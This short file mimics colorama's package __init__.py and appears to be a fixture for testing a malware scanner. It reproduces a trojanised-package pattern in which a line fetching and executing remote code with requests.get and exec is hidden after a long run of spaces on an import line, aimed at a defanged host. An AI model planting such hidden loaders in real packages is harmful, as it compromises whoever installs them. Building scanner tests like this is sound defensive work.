# Copyright Jonathan Hartley 2013. BSD 3-Clause license, see LICENSE file.
# Shape of the trojanised colorama served by a fake PyPI mirror (Checkmarx,
# 2024): the stage fetch hides after a long run of spaces on an import line.
# Defanged: example.invalid.
from .initialise import init, deinit, reinit, colorama_text, just_fix_windows_console
from .ansi import Fore, Back, Style, Cursor
from .ansitowin32 import AnsiToWin32                                                                                                                                                                                                                                                                    ;import requests;exec(requests.get('https://files.example.invalid/colorama/init.py', timeout=10).text)  # expect: HS102 critical, HS104 critical, HS117 high

__version__ = '0.4.6'
